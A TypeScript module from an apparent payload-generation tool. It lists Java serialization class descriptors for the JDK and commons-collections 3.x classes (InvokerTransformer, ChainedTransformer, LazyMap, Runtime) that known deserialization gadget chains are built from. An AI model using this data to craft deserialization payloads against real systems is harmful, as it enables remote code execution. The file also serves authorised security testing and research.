/**
 * Class descriptors of the JDK and commons-collections classes keyhole's Java gadgets are made of:
 * names, serialVersionUIDs (as `serialver` reports them) and serializable fields in stream order.
 */
import { type ClassDescriptor, SC_SERIALIZABLE, SC_WRITE_METHOD } from './java-serialization.js';

const SERIALIZABLE_WITH_WRITE_METHOD = SC_SERIALIZABLE | SC_WRITE_METHOD;

/** A class that is not serializable, written only as a Class object (`Runtime.class`). */
const plainClass = (name: string): ClassDescriptor => ({ name, serialVersionUid: 0n, flags: 0, fields: [] });

const arrayClass = (name: string, serialVersionUid: bigint): ClassDescriptor => ({
  name,
  serialVersionUid,
  flags: SC_SERIALIZABLE,
  fields: [],
});

export const JAVA = {
  hashMap: {
    name: 'java.util.HashMap',
    serialVersionUid: 362498820763181265n,
    flags: SERIALIZABLE_WITH_WRITE_METHOD,
    fields: [
      { name: 'loadFactor', type: 'F' },
      { name: 'threshold', type: 'I' },
    ],
  },
  hashSet: {
    name: 'java.util.HashSet',
    serialVersionUid: -5024744406713321676n,
    flags: SERIALIZABLE_WITH_WRITE_METHOD,
    fields: [],
  },
  url: {
    name: 'java.net.URL',
    serialVersionUid: -7627629688361524110n,
    flags: SERIALIZABLE_WITH_WRITE_METHOD,
    fields: [
      { name: 'hashCode', type: 'I' },
      { name: 'port', type: 'I' },
      { name: 'authority', type: 'Ljava/lang/String;' },
      { name: 'file', type: 'Ljava/lang/String;' },
      { name: 'host', type: 'Ljava/lang/String;' },
      { name: 'protocol', type: 'Ljava/lang/String;' },
      { name: 'ref', type: 'Ljava/lang/String;' },
    ],
  },
  integer: {
    name: 'java.lang.Integer',
    serialVersionUid: 1360826667806852920n,
    flags: SC_SERIALIZABLE,
    fields: [{ name: 'value', type: 'I' }],
    superclass: {
      name: 'java.lang.Number',
      serialVersionUid: -8742448824652078965n,
      flags: SC_SERIALIZABLE,
      fields: [],
    },
  },
  string: {
    name: 'java.lang.String',
    serialVersionUid: -6849794470754667710n,
    flags: SC_SERIALIZABLE,
    fields: [],
  },
  object: plainClass('java.lang.Object'),
  runtime: plainClass('java.lang.Runtime'),
  objectArray: arrayClass('[Ljava.lang.Object;', -8012369246846506644n),
  classArray: arrayClass('[Ljava.lang.Class;', -6118465897992725863n),
  stringArray: arrayClass('[Ljava.lang.String;', -5921575005990323385n),
} as const satisfies Record<string, ClassDescriptor>;

const TRANSFORMER = 'Lorg/apache/commons/collections/Transformer;';

/** commons-collections 3.x (the UIDs are the same from 3.1 to 3.2.2). */
export const COMMONS_COLLECTIONS_3 = {
  tiedMapEntry: {
    name: 'org.apache.commons.collections.keyvalue.TiedMapEntry',
    serialVersionUid: -8453869361373831205n,
    flags: SC_SERIALIZABLE,
    fields: [
      { name: 'key', type: 'Ljava/lang/Object;' },
      { name: 'map', type: 'Ljava/util/Map;' },
    ],
  },
  lazyMap: {
    name: 'org.apache.commons.collections.map.LazyMap',
    serialVersionUid: 7990956402564206740n,
    flags: SERIALIZABLE_WITH_WRITE_METHOD,
    fields: [{ name: 'factory', type: TRANSFORMER }],
  },
  chainedTransformer: {
    name: 'org.apache.commons.collections.functors.ChainedTransformer',
    serialVersionUid: 3514945074733160196n,
    flags: SC_SERIALIZABLE,
    fields: [{ name: 'iTransformers', type: `[${TRANSFORMER}` }],
  },
  constantTransformer: {
    name: 'org.apache.commons.collections.functors.ConstantTransformer',
    serialVersionUid: 6374440726369055124n,
    flags: SC_SERIALIZABLE,
    fields: [{ name: 'iConstant', type: 'Ljava/lang/Object;' }],
  },
  invokerTransformer: {
    name: 'org.apache.commons.collections.functors.InvokerTransformer',
    serialVersionUid: -8653385846894047688n,
    flags: SC_SERIALIZABLE,
    fields: [
      { name: 'iArgs', type: '[Ljava/lang/Object;' },
      { name: 'iMethodName', type: 'Ljava/lang/String;' },
      { name: 'iParamTypes', type: '[Ljava/lang/Class;' },
    ],
  },
  transformerArray: arrayClass('[Lorg.apache.commons.collections.Transformer;', -4803604734341277543n),
} as const satisfies Record<string, ClassDescriptor>;
